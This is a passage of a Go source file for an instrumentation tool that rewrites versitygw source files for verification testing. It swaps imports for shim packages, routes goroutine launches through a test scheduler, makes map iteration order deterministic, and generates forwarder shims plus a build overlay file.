	{globs: []string{"auth/iam_cache.go", "auth/iam_internal.go"},
		imports: pick("os", "sync", "time")},
	{globs: []string{"s3event/*.go"},
		imports: pick("sync", "time"), goStmt: true},
	{globs: []string{"auth/bucket_policy*.go"}, imports: map[string]string{}, mapOrd: true},
}

type constSet []string

func (c *constSet) String() string     { return strings.Join(*c, ",") }
func (c *constSet) Set(s string) error { *c = append(*c, s); return nil }

func die(format string, a ...any) {
	fmt.Fprintf(os.Stderr, "TOOLING-ERROR: instrument: "+format+"\n", a...)
	os.Exit(2)
}

func main() {
	out := flag.String("out", "", "output directory")
	repo := flag.String("repo", "/repo", "versitygw tree")
	var sets constSet
	flag.Var(&sets, "set", "pkgdir:Name=value — replace the initialiser of a package-level const/var (e.g. backend:MinPartSize=8)")
	flag.Parse()
	if *out == "" {
		die("-out required")
	}
	os.RemoveAll(*out)
	if err := os.MkdirAll(*out, 0o755); err != nil {
		die("%v", err)
	}
	overlay := map[string]string{}
	used := map[string]map[string]bool{} // real import path -> identifiers used
	fset := token.NewFileSet()
	setDone := map[string]bool{}
	for _, p := range profiles {
		for _, g := range p.globs {
			files, _ := filepath.Glob(filepath.Join(*repo, g))
			sort.Strings(files)
			for _, f := range files {
				if strings.HasSuffix(f, "_test.go") {
					continue
				}
				af, err := parser.ParseFile(fset, f, nil, parser.ParseComments)
				if err != nil {
					die("parse %s: %v", f, err)
				}
				changed := false
				local := map[string]string{} // local package name -> real import path
				for _, im := range af.Imports {
					path, _ := strconv.Unquote(im.Path.Value)
					shim, ok := p.imports[path]
					if !ok {
						continue
					}
					name := filepath.Base(path)
					if im.Name != nil {
						if im.Name.Name == "." || im.Name.Name == "_" {
							die("%s: cannot rewrite dot/blank import of %s", f, path)
						}
						name = im.Name.Name
					}
					local[name] = path
					im.Path.Value = strconv.Quote(shim)
					im.Name = ast.NewIdent(name)
					changed = true
				}
				rel, _ := filepath.Rel(*repo, f)
				pkgdir := filepath.Dir(rel)
				ast.Inspect(af, func(n ast.Node) bool {
					switch v := n.(type) {
					case *ast.SelectorExpr:
						if id, ok := v.X.(*ast.Ident); ok && id.Obj == nil {
							if path, ok := local[id.Name]; ok {
								if used[path] == nil {
									used[path] = map[string]bool{}
								}
								used[path][v.Sel.Name] = true
							}
						}
					case *ast.ValueSpec:
						for i, nm := range v.Names {
							for _, s := range sets {
								key, val, _ := strings.Cut(s, "=")
								if key == pkgdir+":"+nm.Name && i < len(v.Values) {
									e, err := parser.ParseExpr(val)
									if err != nil {
										die("-set %s: %v", s, err)
									}
									v.Values[i] = e
									changed = true
									setDone[s] = true
								}
							}
						}
					}
					return true
				})
				if p.goStmt {
					if rewriteGo(af) {
						changed = true
					}
				}
				if p.mapOrd {
					if rewriteMapRanges(fset, f, af) {
						changed = true
					}
				}
				if !changed {
					continue
				}
				var buf bytes.Buffer
				if err := format.Node(&buf, fset, af); err != nil {
					die("print %s: %v", f, err)
				}
				dst := filepath.Join(*out, "repo", rel)
				os.MkdirAll(filepath.Dir(dst), 0o755)
				if err := os.WriteFile(dst, buf.Bytes(), 0o644); err != nil {
					die("%v", err)
				}
				overlay[f] = dst
			}
		}
	}
	for _, s := range sets {
		if !setDone[s] {
			die("-set %s matched no declaration", s)
		}
	}
	// forwarders for identifiers the hand-written shims lack
	for path, ids := range used {
		shimDir := filepath.Join("/verif", strings.TrimPrefix(shims[path], "verif/"))
		have := exported(shimDir)
		var missing []string
		for id := range ids {
			if !have[id] {
				missing = append(missing, id)
			}
		}
		if len(missing) == 0 {
			continue
		}
		sort.Strings(missing)
		src := genForwarders(path, filepath.Base(shims[path]), missing)
		dst := filepath.Join(*out, "shim", filepath.Base(shims[path]), "zz_generated.go")
		os.MkdirAll(filepath.Dir(dst), 0o755)
		if err := os.WriteFile(dst, src, 0o644); err != nil {
			die("%v", err)
		}
		overlay[filepath.Join(shimDir, "zz_generated.go")] = dst
		fmt.Fprintf(os.Stderr, "instrument: generated forwarders in %s for %v\n", shims[path], missing)
	}
	b, _ := json.MarshalIndent(map[string]any{"Replace": overlay}, "", " ")
	if err := os.WriteFile(filepath.Join(*out, "overlay.json"), b, 0o644); err != nil {
		die("%v", err)
	}
	fmt.Printf("instrument: %d files in overlay\n", len(overlay))
}

// rewriteGo turns `go call(args)` into `vsync_go.Go(func() { call(args) })`;
// arguments are evaluated at spawn time like the go statement does.
func rewriteGo(af *ast.File) bool {
	changed := false
	ast.Inspect(af, func(n ast.Node) bool {
		bs, ok := n.(*ast.BlockStmt)
		if !ok {
			return true
		}
		for i, st := range bs.List {
			gs, ok := st.(*ast.GoStmt)
			if !ok {
				continue
			}
			// evaluate arguments now: _a0, _a1 := arg0, arg1
			var names []ast.Expr
			var vals []ast.Expr
			call := *gs.Call
			call.Args = nil
			for k, a := range gs.Call.Args {
				id := ast.NewIdent(fmt.Sprintf("_verif_a%d", k))
				names = append(names, id)
				vals = append(vals, a)
				call.Args = append(call.Args, id)
			}
			lit := &ast.FuncLit{Type: &ast.FuncType{Params: &ast.FieldList{}}, Body: &ast.BlockStmt{List: []ast.Stmt{&ast.ExprStmt{X: &call}}}}
			spawn := &ast.ExprStmt{X: &ast.CallExpr{Fun: &ast.SelectorExpr{X: ast.NewIdent("verifsched"), Sel: ast.NewIdent("Go")}, Args: []ast.Expr{lit}}}
			var repl ast.Stmt = spawn
			if len(names) > 0 {
				repl = &ast.BlockStmt{List: []ast.Stmt{&ast.AssignStmt{Lhs: names, Tok: token.DEFINE, Rhs: vals}, spawn}}
			}
			bs.List[i] = repl
			changed = true
		}
		return true
	})
	if changed {
		af.Decls = append([]ast.Decl{&ast.GenDecl{Tok: token.IMPORT, Specs: []ast.Spec{&ast.ImportSpec{Name: ast.NewIdent("verifsched"), Path: &ast.BasicLit{Kind: token.STRING, Value: strconv.Quote("verif/sched")}}}}}, af.Decls...)
	}
	return changed
}

func exported(dir string) map[string]bool {
	have := map[string]bool{}
	fset := token.NewFileSet()
	pkgs, err := parser.ParseDir(fset, dir, func(fi os.FileInfo) bool { return !strings.HasPrefix(fi.Name(), "zz_") }, 0)
	if err != nil {
		die("parse shim %s: %v", dir, err)
	}
	for _, p := range pkgs {
		for _, f := range p.Files {
			for _, d := range f.Decls {
				switch v := d.(type) {
				case *ast.FuncDecl:
					if v.Recv == nil {
						have[v.Name.Name] = true
					}
				case *ast.GenDecl:
					for _, s := range v.Specs {
						switch sp := s.(type) {
						case *ast.TypeSpec:
							have[sp.Name.Name] = true
						case *ast.ValueSpec:
							for _, n := range sp.Names {
								have[n.Name] = true
							}
						}
					}
				}
			}
		}
	}
	return have
}

func genForwarders(path, shimName string, ids []string) []byte {
	imp := importer.ForCompiler(token.NewFileSet(), "source", nil)
	pkg, err := imp.Import(path)
	if err != nil {
		die("cannot load %s to generate forwarders for %v: %v", path, ids, err)
	}
	imports := map[string]string{path: "real"}
	qual := func(p *types.Package) string {
		if p.Path() == path {
			return "real"
		}
		n := "p_" + strings.NewReplacer("/", "_", ".", "_", "-", "_").Replace(p.Path())
		imports[p.Path()] = n
		return n
	}
	var body bytes.Buffer
	for _, id := range ids {
		obj := pkg.Scope().Lookup(id)
		if obj == nil {
			die("%s has no identifier %s", path, id)
		}
		switch o := obj.(type) {
		case *types.TypeName:
			fmt.Fprintf(&body, "type %s = real.%s\n", id, id)
		case *types.Const:
			fmt.Fprintf(&body, "const %s = real.%s\n", id, id)
		case *types.Var:
			fmt.Fprintf(&body, "var %s = real.%s // NOTE: copied at init\n", id, id)
		case *types.Func:
			sig := o.Type().(*types.Signature)
			var params, args []string
			for i := 0; i < sig.Params().Len(); i++ {
				p := sig.Params().At(i)
				t := types.TypeString(p.Type(), qual)
				a := fmt.Sprintf("a%d", i)
				if sig.Variadic() && i == sig.Params().Len()-1 {
					t = "..." + strings.TrimPrefix(t, "[]")
					args = append(args, a+"...")
				} else {
					args = append(args, a)
				}
				params = append(params, a+" "+t)
			}
			var res []string
			for i := 0; i < sig.Results().Len(); i++ {
				res = append(res, types.TypeString(sig.Results().At(i).Type(), qual))
			}
			ret := ""
			if len(res) > 0 {
				ret = "return "
			}
			fmt.Fprintf(&body, "func %s(%s) (%s) {\n\tsched.Point(%q)\n\t%sreal.%s(%s)\n}\n", id, strings.Join(params, ", "), strings.Join(res, ", "),
				"unmodelled:"+filepath.Base(path)+"."+id, ret, id, strings.Join(args, ", "))
		default:
			die("cannot forward %s.%s", path, id)
		}
	}
	var hdr bytes.Buffer
	fmt.Fprintf(&hdr, "// Code generated by /verif/cmd/instrument. DO NOT EDIT.\npackage %s\n\nimport (\n\t\"verif/sched\"\n", shimName)
	var ps []string
	for p := range imports {
		ps = append(ps, p)
	}
	sort.Strings(ps)
	for _, p := range ps {
		fmt.Fprintf(&hdr, "\t%s %q\n", imports[p], p)
	}
	hdr.WriteString(")\n\nvar _ = sched.Point\n\n")
	hdr.Write(body.Bytes())
	src, err := format.Source(hdr.Bytes())
	if err != nil {
		die("generated forwarders do not parse: %v\n%s", err, hdr.Bytes())
	}
	return src
}

// ---- map iteration order -------------------------------------------------

type emptyImporter struct{}

func (emptyImporter) Import(path string) (*types.Package, error) {
	p := types.NewPackage(path, filepath.Base(path))
	p.MarkComplete()
	return p, nil
}

var pkgInfoCache = map[string]*types.Info{}
var pkgFilesCache = map[string]map[string]*ast.File{}

// typeInfo type-checks the package directory of file with imports stubbed
// out (errors ignored): types declared in the package itself — all the
// policy maps are — resolve, everything else stays unknown and is left alone.
func typeInfo(fset *token.FileSet, file string, self *ast.File) *types.Info {
	dir := filepath.Dir(file)
	if info, ok := pkgInfoCache[dir]; ok {
		return info
	}
	names, _ := filepath.Glob(filepath.Join(dir, "*.go"))
	var files []*ast.File
	byName := map[string]*ast.File{}
	for _, n := range names {
		if strings.HasSuffix(n, "_test.go") {
			continue
		}
		af, err := parser.ParseFile(fset, n, nil, parser.ParseComments)
		if err != nil {
			die("parse %s: %v", n, err)
		}
		files = append(files, af)
		byName[n] = af
	}
	info := &types.Info{Types: map[ast.Expr]types.TypeAndValue{}}
	conf := types.Config{Importer: emptyImporter{}, Error: func(error) {}, DisableUnusedImportCheck: true}
	conf.Check(dir, fset, files, info)
	pkgInfoCache[dir] = info
	pkgFilesCache[dir] = byName
	return info
}

func rewriteMapRanges(fset *token.FileSet, file string, af *ast.File) bool {
	info := typeInfo(fset, file, af)
	// the type info belongs to the ASTs parsed by typeInfo: work on that copy of this file
	src := pkgFilesCache[filepath.Dir(file)][file]
	if src == nil {
		return false
	}
	changed := false
	var visit func(n ast.Node) bool
	visit = func(n ast.Node) bool {
		bs, ok := n.(*ast.BlockStmt)
		if !ok {
			return true
		}
		for i, st := range bs.List {
			rs, ok := st.(*ast.RangeStmt)
			if !ok {
				continue
			}
			tv, ok := info.Types[rs.X]
			if !ok || tv.Type == nil {
				continue
			}
			if _, isMap := tv.Type.Underlying().(*types.Map); !isMap {
				continue
			}
			m := ast.NewIdent(fmt.Sprintf("_verif_m%d", i))
			key := rs.Key
			if key == nil {
				key = ast.NewIdent("_")
			}
			body := rs.Body
			if rs.Value != nil {
				if id, ok := rs.Value.(*ast.Ident); !ok || id.Name != "_" {
					tok := rs.Tok
					assign := &ast.AssignStmt{Lhs: []ast.Expr{rs.Value}, Tok: tok, Rhs: []ast.Expr{&ast.IndexExpr{X: m, Index: key}}}
					body = &ast.BlockStmt{List: append([]ast.Stmt{assign}, rs.Body.List...)}
				}
			}
			loop := &ast.RangeStmt{Key: ast.NewIdent("_"), Value: key, Tok: rs.Tok, X: &ast.CallExpr{Fun: &ast.SelectorExpr{X: ast.NewIdent("verifvmap"), Sel: ast.NewIdent("Keys")}, Args: []ast.Expr{m}}, Body: body}
			if rs.Key == nil {
				loop.Value = nil
				loop.Key = nil
				loop.Tok = token.ILLEGAL
			}
			bs.List[i] = &ast.BlockStmt{List: []ast.Stmt{&ast.AssignStmt{Lhs: []ast.Expr{m}, Tok: token.DEFINE, Rhs: []ast.Expr{rs.X}}, loop}}
			changed = true
		}
		return true
	}
	ast.Inspect(src, visit)
	if changed {
		src.Decls = append([]ast.Decl{&ast.GenDecl{Tok: token.IMPORT, Specs: []ast.Spec{&ast.ImportSpec{Name: ast.NewIdent("verifvmap"), Path: &ast.BasicLit{Kind: token.STRING, Value: strconv.Quote("verif/shim/vmap")}}}}}, src.Decls...)
		*af = *src
	}
	return changed
}
